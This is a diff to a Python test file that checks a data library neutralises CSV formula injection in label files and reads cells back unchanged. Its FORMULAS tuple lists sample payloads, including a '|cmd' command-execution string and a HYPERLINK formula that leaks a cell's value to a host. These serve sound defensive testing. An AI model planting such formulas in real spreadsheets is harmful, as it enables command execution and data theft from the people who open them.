@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import decimal
+import io
 import re
 import sqlite3
 from contextlib import closing
@@ -18,11 +20,13 @@ import pandas as pd
 import polars as pl
 import pyarrow as pa
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from tests.ledger.postgres_server import running, why_not
 
 from quorate import PrivateClassifier, PrivateLogisticRegression, PublicPool, check
 from quorate.data import check_classes, encode_labels, read_cells, read_data
-from quorate.data.cell_text import canonical_text, id_text
+from quorate.data.cell_text import as_cell, canonical_text, csv_text, from_cell, id_text
 from quorate.data.column_cells import PublicWords
 from quorate.data.database import DatabaseQuery
 from quorate.data.labels import codes_of
@@ -72,6 +76,9 @@ LABELS = {
     "truth values": [False, True, True, False],
     "truth values of numpy": np.array([False, True, True, False]),
     "floats": [0.0, 1.0, 1.0, 0.0],
+    "small numbers of numpy": np.array(NUMBERS, dtype="uint8"),
+    "texts in pandas": pd.Series(["0", "1", "1", "0"], dtype="str"),
+    "categories of polars": pl.Series(["0", "1", "1", "0"], dtype=pl.Categorical),
     "texts": ["0", "1", " 1", "0.0"],
     "texts of numpy": np.array(["0", "1", "1", "0"]),
     "bytes": np.array([b"0", b"1", b"1", b"0"]),
@@ -303,3 +310,91 @@ def test_times_of_numpy_are_times_and_not_counts():
     moments = np.array(["2024-03-01", "2024-03-01T07:30"], dtype="M8[ns]")
     assert usable_slots(moments, 2) == usable_slots(pd.Series(moments), 2) == usable_slots(pl.Series(moments), 2)
     assert re.match(rb"id:2024-03-01$", usable_slots(moments, 2)[0])
+
+
+# --- no cell of a file that people open in a spreadsheet is run as a formula, and each is read back as it was ---------
+
+
+DANGEROUS = tuple("=+-@\t\r\n")
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1|cmd",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    '=HYPERLINK("http://x?"&A1)',
+    "=",
+    "+",
+    "-",
+    "@",
+    "'=1",
+)
+
+texts = st.text(st.sampled_from("=+-@'\t\r\n1.e a,\""), max_size=8)
+
+
+def is_a_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return text == text.strip()
+
+
+@given(text=texts)
+def test_every_cell_is_harmless_and_read_back(text: str) -> None:
+    cell = as_cell(text)
+    assert not cell.startswith(DANGEROUS) or is_a_number(cell)
+    assert from_cell(cell) == text
+    assert as_cell(text) == text or cell == "'" + text
+
+
+@given(one=texts, other=texts)
+def test_two_texts_never_become_one(one: str, other: str) -> None:
+    assert (as_cell(one) == as_cell(other)) == (one == other)
+
+
+@pytest.mark.default_cases(4)
+@pytest.mark.parametrize("value", [-1, 0.5, -2.5e-3, True, None, "-1", "+1.5e3", "yes", "<=50K", ">50K", "it's", ""])
+def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
+    assert as_cell(value) == value
+
+
+@given(rows=st.lists(st.tuples(st.integers(-9, 9), texts), max_size=5), name=texts)
+def test_a_table_is_read_back_by_any_reader_of_csv(rows: list[tuple[int, str]], name: str) -> None:
+    read = list(csv.reader(io.StringIO(csv_text(["row", name], rows), newline="")))
+    assert [[from_cell(cell) for cell in line] for line in read] == [["row", name], *([str(n), t] for n, t in rows)]
+
+
+@pytest.mark.default_cases(3)
+@pytest.mark.parametrize("formula", [each for each in FORMULAS if each.strip()])
+def test_a_file_of_labels_with_such_a_class_is_read_by_our_own_reader(formula: str, tmp_path) -> None:
+    classes = [formula, "no"]
+    path = tmp_path / "labels.csv"
+    path.write_text(
+        csv_text(["x", "label"], [[0.5, formula], [1.5, "no"], [2.5, formula]]), encoding="utf-8", newline=""
+    )
+    table = read_data(path, label="label")
+    assert encode_labels(table.y, classes).tolist() == [0, 1, 0]
+    assert encode_labels(np.array([formula, "no"], dtype=object), classes).tolist() == [0, 1]
+
+
+def test_labels_that_are_none_of_the_classes_are_still_refused() -> None:
+    with pytest.raises(DataRefused, match="a label outside classes"):
+        encode_labels(["'yes"], ["yes", "no"])
+    with pytest.raises(DataRefused):
+        encode_labels(["=yes"], ["'=yes", "no"])
+
+
+def test_two_classes_that_would_be_written_alike_are_refused() -> None:
+    with pytest.raises(InvalidParameter, match="would be one in a file of labels"):
+        check_classes(["=1", "'=1", "no"])
+    assert check_classes(["+", "-"]) == ("+", "-")
+    assert check_classes([-1, 1]) == (-1, 1)
+
+
+def test_that_test_catches_a_file_without_quotes(tmp_path) -> None:
+    """polars, too, would have taken the cell as it is: nothing else neutralises it."""
+    text = pl.DataFrame({"label": list(FORMULAS)}).write_csv()
+    assert any(cell.startswith(DANGEROUS) for (cell,) in csv.reader(io.StringIO(text, newline="")))
